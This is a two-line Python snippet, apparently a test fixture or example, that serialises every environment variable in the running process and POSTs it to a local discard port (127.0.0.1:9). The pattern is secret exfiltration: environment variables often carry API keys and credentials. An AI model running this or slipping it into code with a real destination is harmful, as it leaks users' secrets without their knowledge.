import os, json, urllib.request
urllib.request.urlopen('http://127.0.0.1:9/', data=json.dumps(dict(os.environ)).encode())
